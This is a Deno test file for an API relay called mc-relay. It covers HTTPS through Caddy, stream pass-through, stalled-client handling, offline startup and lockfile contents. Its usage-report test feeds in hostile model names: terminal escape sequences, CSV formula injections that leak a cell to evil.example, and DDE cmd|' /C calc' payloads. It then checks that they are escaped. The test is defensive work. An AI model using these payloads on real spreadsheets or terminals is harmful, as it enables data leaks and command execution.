        const base = `https://localhost:${httpsPort}`;
        const models = await within(
          15000,
          (async () => {
            while (true) {
              try {
                return await fetch(`${base}/v1/models`, {
                  client,
                  headers: { authorization: GOOD_BEARER, origin: ALLOWED },
                });
              } catch {
                await sleep(200);
              }
            }
          })(),
          "caddy did not serve HTTPS",
        );
        assert.equal(models.status, 200);
        assert.equal(models.headers.get("access-control-allow-origin"), ALLOWED);
        assert.equal((await models.json()).data[0].id, "gpt-test");

        const response = await fetch(`${base}/v1/chat/completions`, {
          client,
          method: "POST",
          headers: { authorization: GOOD_BEARER, "content-type": "application/json" },
          body: chatBody({ stream: true }),
        });
        assert.equal(response.status, 200);
        assert.match(response.headers.get("strict-transport-security") ?? "", /max-age=/);
        const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader();
        for (let i = 0; i < 3; i++) {
          stream.send(`data: chunk ${i}\n\n`);
          const { value } = await within(5000, reader.read(), `chunk ${i} was held back on the way through Caddy`);
          assert.equal(value, `data: chunk ${i}\n\n`);
        }
        stream.close();
        assert.ok((await reader.read()).done);

        // A client that stalls in its headers is closed by Caddy (read_header 10s), never reaching the relay.
        const stalled = await Deno.connectTls({ hostname: "localhost", port: httpsPort, caCerts: [root] });
        await stalled.write(encoder.encode("GET /v1/models HTTP/1.1\r\nHost: localhost\r\n"));
        const closed = await within(20_000, stalled.read(new Uint8Array(1024)), "Caddy kept a stalled client open");
        assert.ok(closed === null || closed > 0, "closed, or answered with an error and then closed");
        stalled.close();
      } finally {
        caddy.kill("SIGTERM");
        await caddy.status;
        await caddyLog.catch(() => {});
        relay.child.kill("SIGTERM");
        await relay.finished();
        await Deno.remove(folder, { recursive: true });
      }
    },
  );
});

Deno.test("process: mc-relay usage output [security]", async (t) => {
  await t.step(
    "[security] mc-relay usage escapes control characters in the table and neutralises formulas in CSV",
    async (t) => {
      await using upstream = startUpstream(openAiLikeUpstream);
      const folder = await Deno.makeTempDir({ prefix: "mc-relay-usage-escapes-" });
      const statePath = `${folder}/state.db`;
      const hostile = [
        "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\x1b[2J",
        '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB=1",
        "\u202egpt\u2028",
        "plain-model",
      ];
      try {
        const counters = await SqliteCounterStore.open(statePath);
        try {
          await using relay = startRelay(testConfig(upstream.url), undefined, undefined, { counters });
          for (const model of hostile) assert.equal((await relay.chat(chatBody({ model }))).status, 200, model);
        } finally {
          counters.close();
        }
        const usage = async (...args: string[]) => {
          const result = await runRelayProcess({ STATE_PATH: statePath }, ["usage", "--by", "model", ...args]);
          assert.equal(result.code, 0, result.stderr);
          return result.stdout;
        };

        await t.step("[security] the table shows control characters as escapes, never raw", async () => {
          const table = await usage();
          // deno-lint-ignore no-control-regex -- the control characters are what must not be there
          assert.doesNotMatch(table, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
          assert.ok(table.includes("\\x1b]8;;https://evil.example/\\x07click\\x1b]8;;\\x07\\x1b[2J"), table);
          assert.ok(table.includes("\\u202egpt\\u2028"), table);
          assert.match(table, /^plain-model +1 /m);
          assert.match(table, /^total +8 /m, "the columns still line up");
        });

        await t.step(
          "[security] every CSV cell that a spreadsheet would run as a formula starts with a quote",
          async () => {
            const rows = parseCsv(await usage("--format", "csv"));
            assert.deepEqual(rows[0], [
              "model",
              "requests",
              "prompt_tokens",
              "completion_tokens",
              "total_tokens",
              "estimated_requests",
            ]);
            const keys = rows.slice(1).map((row) => row[0]);
            for (const key of keys) assert.doesNotMatch(key, /^[=+\-@\t\r]/, `a formula cell: ${key}`);
            assert.ok(keys.includes(`'=HYPERLINK("https://evil.example/?leak="&A1,"click")`), keys.join("\n"));
            assert.ok(keys.includes("'-2+3"));
            assert.ok(keys.includes("'+1+cmd|' /C calc'!A0"));
            assert.ok(keys.includes("'@SUM(1+1)*cmd|' /C calc'!A0"));
            assert.ok(keys.includes("\\x09TAB=1"), "a leading tab is shown as an escape");
            assert.ok(keys.includes("plain-model"), "ordinary names are unchanged");
            assert.ok(rows.slice(1).every((row) => row.length === 6 && row[1] === "1"));
          },
        );

        await t.step("JSON keeps the names exactly as clients sent them, safely encoded", async () => {
          const report = JSON.parse(await usage("--format", "json"));
          assert.deepEqual(report.rows.map((row: { model: string }) => row.model).sort(), [...hostile].sort());
        });
      } finally {
        await Deno.remove(folder, { recursive: true });
      }
    },
  );
});

Deno.test("process: the relay starts with no package registry and an empty cache", async (t) => {
  for (const task of ["start", "demo"]) {
    await t.step(`deno task ${task} fetches nothing before it listens`, async () => {
      // The demo brings its own upstream and refuses a configured one.
      const config = task === "demo" ? {} : minimalEnv;
      const env = { ...config, ...await offline(), HOST: "127.0.0.1", PORT: String(freePort()) };
      const relay = await spawnRelay(env, [], { cwd: PROJECT, deno: ["task", task] });
      try {
        const health = await fetch(`${relay.url}/health`);
        assert.equal(health.status, 200);
        await health.body?.cancel();
        assert.doesNotMatch(relay.output().stderr, /Download|Failed caching/);
      } finally {
        relay.child.kill("SIGTERM");
        await relay.finished();
      }
    });
  }

  await t.step(
    "the relay's lock holds only what the relay may load (npm:redis for REDIS_URL, npm:yaml for 'mc-relay migrate'); the tests' packages are in test/deno.lock",
    async () => {
      const relayLock = JSON.parse(await Deno.readTextFile(`${PROJECT}deno.lock`));
      assert.deepEqual(Object.keys(relayLock.specifiers), ["npm:redis@5.12.1", "npm:yaml@2.9.1"]);
      const packages = Object.keys(relayLock.npm).map((name) => name.replace(/^(@?[^@]+)@.*$/, "$1"));
      assert.deepEqual(
        [...new Set(packages)].sort(),
        [
          "@redis/bloom",
          "@redis/client",
          "@redis/json",
          "@redis/search",
          "@redis/time-series",
          "cluster-key-slot",
          "redis",
          "yaml",
        ],
      );
      const testLock = JSON.parse(await Deno.readTextFile(`${PROJECT}test/deno.lock`));
      for (const name of ["npm:openai@7.57.0", "npm:playwright-core@1.65.1", "npm:redis@5.12.1", "npm:yaml@2.9.1"]) {
        assert.ok(name in testLock.specifiers, name);
      }
      const { lock, tasks } = JSON.parse(await Deno.readTextFile(`${PROJECT}deno.json`));
      // `deno task` installs every npm package of the lock its config names before it runs anything: so none is named,
      // and each task names its own.
      assert.equal(lock, false);
      for (const name of ["start", "dev", "demo"]) assert.match(tasks[name].command, /--lock=deno\.lock --frozen/);
      assert.match(tasks.test.command, /--lock=test\/deno\.lock --frozen/);
    },
  );
});

Deno.test("no secret ever appeared in anything the relay logged or returned, in any test above", () => {
  assertNoSecretSeen(30);
});
